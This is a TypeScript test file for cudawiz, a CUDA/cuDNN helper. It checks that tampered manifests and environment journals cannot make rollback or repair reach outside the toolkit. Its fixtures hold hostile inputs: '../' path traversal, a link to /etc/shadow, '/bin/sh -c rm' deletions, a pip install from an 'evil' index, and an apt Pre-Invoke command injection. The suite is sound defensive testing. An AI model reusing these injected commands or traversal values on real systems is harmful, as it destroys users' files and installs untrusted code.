// Attacks on cudawiz's own bookkeeping (issue 18, item 1): a toolkit's .cudawiz/manifest.json and
// the environment journal, rewritten by someone else, must never make rollback or repair touch a
// file outside the toolkit (or outside .cudawiz/backup). Each test plants the hostile record, runs
// the real command, and proves the files outside are byte-identical after.
import { createHash } from 'node:crypto';
import { chmod, mkdir, readFile, stat, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { finishImport, importCudnn, readManifest, rollbackImport } from '../../src/cudnn/index.js';
import { readEnvJournal, rollbackEnvChanges } from '../../src/env/index.js';
import { CudawizError } from '../../src/errors.js';
import { realHost } from '../../src/host.js';
import { runCli } from '../helpers/cli.js';
import { buildCudnnArchive, makeToolkit, treeDigest } from '../helpers/cudnn-archive.js';
import { tempDir } from '../helpers/tmp.js';

const sha = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');

/** A machine: a toolkit, and beside it a folder of someone else's files the attack aims at. */
async function machine() {
  const root = await tempDir();
  const toolkit = await makeToolkit(path.join(root, 'cuda-10.1'), 'linux');
  const outside = path.join(root, 'outside');
  await mkdir(outside);
  await writeFile(path.join(outside, 'victim.txt'), 'precious\n');
  await mkdir(path.join(outside, 'emptydir'));
  return { root, toolkit, outside };
}

function manifest(toolkit: string, over: Record<string, unknown>) {
  return {
    tool: 'cudawiz',
    schema: 1,
    what: 'cudnn',
    state: 'complete',
    os: 'linux',
    toolkitDir: toolkit,
    archive: { file: '/x/cudnn-10.1-linux-x64-v7.6.5.32.tgz', format: 'tar.gz', layout: 'cuda-folder', version: '7.6.5' },
    startedAt: '2026-01-01T00:00:00.000Z',
    createdDirs: [],
    files: [],
    ...over,
  };
}

async function plant(toolkit: string, m: unknown) {
  await mkdir(path.join(toolkit, '.cudawiz'), { recursive: true });
  await writeFile(path.join(toolkit, '.cudawiz/manifest.json'), typeof m === 'string' ? m : JSON.stringify(m));
}

const victim = { type: 'file', size: 9, sha256: sha('precious\n') };

async function expectRefused(p: Promise<unknown>, code: string) {
  const error = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(error).toBeInstanceOf(CudawizError);
  expect((error as CudawizError).code).toBe(code);
  expect((error as CudawizError).fix).toBeTruthy();
  return error as CudawizError;
}

describe('a hostile manifest', () => {
  it('with ../ paths (files, createdDirs): rollback refuses before changing anything, outside byte-identical', async () => {
    const { root, toolkit, outside } = await machine();
    await plant(toolkit, manifest(toolkit, { files: [{ path: '../outside/victim.txt', source: 'cuda/lib64/x', ...victim }], createdDirs: ['../outside/emptydir'] }));
    const before = await treeDigest(root);
    const e = await expectRefused(rollbackImport(toolkit), 'manifest-unsafe');
    expect(e.message).toContain('"../outside/victim.txt"');
    const r = await runCli(['rollback', '--cuda-dir', toolkit]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('../outside/victim.txt');
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(await treeDigest(root)).toEqual(before);
    expect(await readFile(path.join(outside, 'victim.txt'), 'utf8')).toBe('precious\n');
  });

  it('with an absolute path or a backslash path: refused', async () => {
    const { root, toolkit, outside } = await machine();
    for (const bad of [path.join(outside, 'victim.txt'), 'lib64\\..\\..\\outside\\victim.txt', 'C:/x', 'lib64/./x', '']) {
      await plant(toolkit, manifest(toolkit, { files: [{ path: bad, source: 'cuda/lib64/x', ...victim }] }));
      const before = await treeDigest(root);
      await expectRefused(rollbackImport(toolkit), bad === '' ? 'manifest-invalid' : 'manifest-unsafe');
      expect(await treeDigest(root)).toEqual(before);
    }
  });

  it('whose path goes through a folder link in the toolkit to outside: refused, the file outside stays', async () => {
    const { root, toolkit, outside } = await machine();
    await symlink(outside, path.join(toolkit, 'include/thrust'));
    await plant(toolkit, manifest(toolkit, { files: [{ path: 'include/thrust/victim.txt', source: 'cuda/include/thrust/victim.txt', ...victim }] }));
    const before = await treeDigest(root);
    const e = await expectRefused(rollbackImport(toolkit), 'manifest-unsafe');
    expect(e.message).toContain(outside);
    expect(await treeDigest(root)).toEqual(before);
  });

  it('whose backup folder is a link out: the "original" outside is neither deleted nor moved in', async () => {
    const { root, toolkit, outside } = await machine();
    await mkdir(path.join(outside, 'include'));
    await writeFile(path.join(outside, 'include/cuda.h'), 'precious\n');
    await writeFile(path.join(toolkit, 'include/cuda.h'), 'precious\n');
    await mkdir(path.join(toolkit, '.cudawiz'), { recursive: true });
    await symlink(outside, path.join(toolkit, '.cudawiz/backup'));
    // "cudawiz wrote X over cuda.h; the original (equal to what is there now) is in the backup".
    await plant(toolkit, manifest(toolkit, { files: [{ path: 'include/cuda.h', source: 'cuda/include/cuda.h', type: 'file', size: 3, sha256: sha('new'), original: victim }] }));
    const before = await treeDigest(root);
    await expectRefused(rollbackImport(toolkit), 'manifest-unsafe');
    expect(await treeDigest(root)).toEqual(before);
  });

  it('restoring a link that points out of the toolkit: not recreated, said so', async () => {
    const { toolkit } = await machine();
    const mine = 'cuda-lib';
    await writeFile(path.join(toolkit, `lib64/${mine}`), 'ours');
    await plant(toolkit, manifest(toolkit, { files: [{ path: 'lib64/libcudnn.so', source: 'cuda/lib64/libcudnn.so', type: 'symlink', linkTarget: mine, original: { type: 'symlink', linkTarget: '/etc/shadow' } }] }));
    await symlink(mine, path.join(toolkit, 'lib64/libcudnn.so'));
    const r = await rollbackImport(toolkit);
    expect(r.removed).toEqual(['lib64/libcudnn.so']);
    expect(r.restored).toEqual([]);
    expect(r.kept).toEqual([{ path: 'lib64/libcudnn.so', reason: expect.stringContaining('/etc/shadow') }]);
    await expect(stat(path.join(toolkit, 'lib64/libcudnn.so'))).rejects.toThrow();
  });

  it('an "interrupted" one pointing out: repair (finishImport) plants nothing outside and makes no folder there', async () => {
    const { root, toolkit, outside } = await machine();
    await mkdir(path.join(toolkit, '.cudawiz/staging/cuda/lib64'), { recursive: true });
    await writeFile(path.join(toolkit, '.cudawiz/staging/cuda/lib64/evil.so'), 'evil');
    await plant(
      toolkit,
      manifest(toolkit, {
        state: 'copying',
        toolkitDir: outside, // the recorded folder is not trusted either
        createdDirs: ['../outside/made'],
        files: [{ path: '../outside/planted.so', source: 'cuda/lib64/evil.so', type: 'file', size: 4, sha256: sha('evil') }],
      }),
    );
    const before = await treeDigest(outside);
    await expectRefused(finishImport(toolkit), 'manifest-unsafe');
    expect(await treeDigest(outside)).toEqual(before);
    // The recorded toolkitDir alone: a clean relative path is placed in the toolkit it was found in, not there.
    await plant(toolkit, manifest(toolkit, { state: 'copying', toolkitDir: outside, files: [{ path: 'lib64/evil.so', source: 'cuda/lib64/evil.so', type: 'file', size: 4, sha256: sha('evil') }] }));
    await finishImport(toolkit);
    expect(await readFile(path.join(toolkit, 'lib64/evil.so'), 'utf8')).toBe('evil');
    expect(await treeDigest(outside)).toEqual(before);
    expect(root).toBeTruthy();
  });

  it('a source climbing out of staging: refused', async () => {
    const { toolkit, outside } = await machine();
    await plant(toolkit, manifest(toolkit, { state: 'copying', files: [{ path: 'lib64/x.so', source: '../../../outside/victim.txt', ...victim }] }));
    const before = await treeDigest(outside);
    await expectRefused(finishImport(toolkit), 'manifest-unsafe');
    expect(await treeDigest(outside)).toEqual(before);
  });

  it('truncated or odd-shaped: a clear message with a fix, never a stack trace', async () => {
    const { toolkit } = await machine();
    const good = JSON.stringify(manifest(toolkit, {}));
    for (const text of [good.slice(0, good.length / 2), '[]', JSON.stringify(manifest(toolkit, { files: 'x' })), JSON.stringify(manifest(toolkit, { state: 'weird' })), JSON.stringify(manifest(toolkit, { files: [{ path: 'lib64/a', type: 'file', size: -1 }] }))]) {
      await plant(toolkit, text);
      const e = await expectRefused(readManifest(toolkit), 'manifest-invalid');
      expect(e.message).toContain('manifest.json');
      const r = await runCli(['rollback', '--cuda-dir', toolkit]);
      expect(r.code).toBe(1);
      expect(r.stderr).toContain('is not a cudawiz manifest');
      expect(r.stderr).toContain('mv ');
      expect(r.stderr).not.toMatch(/\n\s+at |SyntaxError|ZodError/);
    }
  });
});

describe('a .cudawiz folder that is a link out of the toolkit', () => {
  it.each(['tar.gz', 'zip'] as const)('import (%s) refuses before writing anything through it', async (format) => {
    const { root, toolkit, outside } = await machine();
    const os = format === 'zip' ? 'windows' : 'linux';
    const tk = os === 'windows' ? await makeToolkit(path.join(root, 'v10.1'), 'windows') : toolkit;
    await symlink(outside, path.join(tk, '.cudawiz'));
    const a = await buildCudnnArchive(await tempDir(), { era: os === 'windows' ? 'windows-cuda-folder' : 'linux-cuda-folder' });
    const before = await treeDigest(root);
    const e = await expectRefused(importCudnn({ archive: a.file, toolkitDir: tk, os }), 'link-out');
    expect(e.message).toContain('.cudawiz');
    expect(await treeDigest(root)).toEqual(before);
  });
});

describe('plain rollback walking --cuda-root', () => {
  it('acts on the toolkits whose manifests validate, names the hostile ones, and leaves everything else byte-identical', async () => {
    const { root, toolkit, outside } = await machine();
    const good = await makeToolkit(path.join(root, 'cuda-11.0'), 'linux', '11.0');
    const before11 = await treeDigest(good);
    const a = await buildCudnnArchive(await tempDir(), { era: 'linux-cuda-folder' });
    await importCudnn({ archive: a.file, toolkitDir: good, os: 'linux' });
    await plant(toolkit, manifest(toolkit, { files: [{ path: '../outside/victim.txt', source: 'x', ...victim }] }));
    const beforeOutside = await treeDigest(outside);
    const r = await runCli(['rollback', '--cuda-root', root], { host: { os: 'linux' } });
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).toContain('../outside/victim.txt');
    expect(await treeDigest(good)).toEqual(before11);
    expect(await treeDigest(outside)).toEqual(beforeOutside);
    expect(await readFile(path.join(toolkit, '.cudawiz/manifest.json'), 'utf8')).toContain('../outside');
  });

  it.runIf(process.getuid?.() === 0)('as root, skips a toolkit other users can write, with the reason and what to do', async () => {
    const root = await tempDir();
    const open = await makeToolkit(path.join(root, 'cuda-10.1'), 'linux');
    await writeFile(path.join(open, 'include/cudnn.h'), '/* old */\n');
    const a = await buildCudnnArchive(await tempDir(), { era: 'linux-cuda-folder' });
    await importCudnn({ archive: a.file, toolkitDir: open, os: 'linux' });
    await chmod(path.join(open, '.cudawiz'), 0o777);
    const before = await treeDigest(open);
    const r = await runCli(['rollback', '--cuda-root', root], { host: { os: 'linux' } });
    expect(r.stdout + r.stderr).toContain(`Skipped ${open}`);
    expect(r.stdout + r.stderr).toContain('writable by other users');
    // Issue 33: the admin is not told to run a deleting command blindly.
    expect(r.stdout + r.stderr).not.toContain('--cuda-dir');
    expect(r.stdout + r.stderr).toContain(`cudawiz deletes nothing in ${open}`);
    expect(r.code).toBe(1);
    expect(await treeDigest(open)).toEqual(before);
    // Once only root can write it, the same walk rolls it back.
    await chmod(path.join(open, '.cudawiz'), 0o755);
    const ok = await runCli(['rollback', '--cuda-root', root], { host: { os: 'linux' } });
    expect(ok.code).toBe(0);
    expect(await readFile(path.join(open, 'include/cudnn.h'), 'utf8')).toBe('/* old */\n');
  });
});

describe('a hostile environment journal', () => {
  const host = realHost();

  async function journal(entries: unknown[] | string) {
    const dir = path.join(await tempDir(), 'config', 'cudawiz');
    await mkdir(dir, { recursive: true });
    const file = path.join(dir, 'env-journal.json');
    await writeFile(file, typeof entries === 'string' ? entries : JSON.stringify({ format: 1, entries }));
    return { dir, file };
  }

  it('truncated or odd-shaped: a clear error with a fix', async () => {
    for (const text of ['{"format":1,"entr', '{"format":1,"entries":[{"at":1}]}', '{"format":2,"entries":[]}']) {
      const { file } = await journal(text);
      const e = await expectRefused(readEnvJournal(file), 'journal-invalid');
      expect(e.message).toContain(file);
    }
  });

  it('naming a file cudawiz never writes: refused, that file byte-identical', async () => {
    const { outside } = await machine();
    const target = path.join(outside, 'victim.txt');
    const cases = [
      { kind: 'env-script', target, before: null, after: 'precious\n', why: 'x' },
      { kind: 'ld-so-conf', target, before: null, after: 'precious\n', why: 'x' },
      { kind: 'ld-so-conf', target: path.join(outside, 'ld.so.conf.d/../victim.txt'), before: null, after: 'precious\n', why: 'x' },
      { kind: 'rc-line', target, before: null, after: 'precious\n', line: 'precious', why: 'x' },
      { kind: 'ldconfig', target: 'ld.so.cache', before: null, after: null, command: { file: '/bin/sh', args: ['-c', `rm ${target}`] }, why: 'x' },
      { kind: 'ldconfig', target: 'ld.so.cache', before: null, after: null, command: { file: 'ldconfig', args: ['-C', target] }, why: 'x' },
      // A package manager's way back may only be that manager going back to a recorded state.
      { kind: 'package', target: '/home/me/miniconda3/envs/tf', before: 'rev 0', after: null, undo: { file: '/bin/sh', args: ['-c', `rm ${target}`] }, why: 'x' },
      { kind: 'package', target: '/home/me/miniconda3/envs/tf', before: 'rev 0', after: null, undo: { file: 'conda', args: ['run', '-p', '/home/me/miniconda3/envs/tf', 'rm', target] }, why: 'x' },
      { kind: 'package', target: '/home/me/miniconda3/envs/tf', before: 'rev 0', after: null, undo: { file: 'conda', args: ['install', '--yes', '-p', '/other/env', '--revision', '0'] }, why: 'x' },
      { kind: 'package', target: '/venv/bin/python', before: 'x==1', after: null, undo: { file: '/venv/bin/python', args: ['-c', `import os; os.remove('${target}')`] }, why: 'x' },
      { kind: 'package', target: '/venv/bin/python', before: 'x==1', after: null, undo: { file: '/venv/bin/python', args: ['-m', 'pip', 'install', '--index-url', 'http://evil', 'x==1'] }, why: 'x' },
      { kind: 'package', target: 'apt', before: 'libcudnn8=8.5', after: null, undo: { file: 'apt-get', args: ['install', '-y', 'libcudnn8=8.5', '-o', `APT::Update::Pre-Invoke::=rm ${target}`] }, why: 'x' },
    ];
    for (const change of cases) {
      const { file } = await journal([{ at: '2026-01-01T00:00:00Z', state: 'applied', change }]);
      const before = await treeDigest(outside);
      await expectRefused(rollbackEnvChanges(file, { host }), 'journal-unsafe');
      expect(await treeDigest(outside)).toEqual(before);
    }
  });

  it("an env script that is now a link to someone else's file: refused", async () => {
    const { outside } = await machine();
    const { dir, file } = await journal([]);
    const script = path.join(dir, 'env-cuda-10.1.sh');
    await symlink(path.join(outside, 'victim.txt'), script);
    await writeFile(file, JSON.stringify({ format: 1, entries: [{ at: '2026-01-01T00:00:00Z', state: 'applied', change: { kind: 'env-script', target: script, before: null, after: 'precious\n', why: 'x' } }] }));
    const before = await treeDigest(outside);
    await expectRefused(rollbackEnvChanges(file, { host }), 'journal-unsafe');
    expect(await treeDigest(outside)).toEqual(before);
  });

  it("cudawiz's own entries still roll back", async () => {
    const { dir, file } = await journal([]);
    const script = path.join(dir, 'env-cuda-10.1.sh');
    await writeFile(script, 'export X=1\n');
    await writeFile(file, JSON.stringify({ format: 1, entries: [{ at: '2026-01-01T00:00:00Z', state: 'applied', change: { kind: 'env-script', target: script, before: null, after: 'export X=1\n', why: 'x' } }] }));
    const r = await rollbackEnvChanges(file, { host });
    expect(r.undone.map((c) => c.target)).toEqual([script]);
    await expect(stat(script)).rejects.toThrow();
  });
});
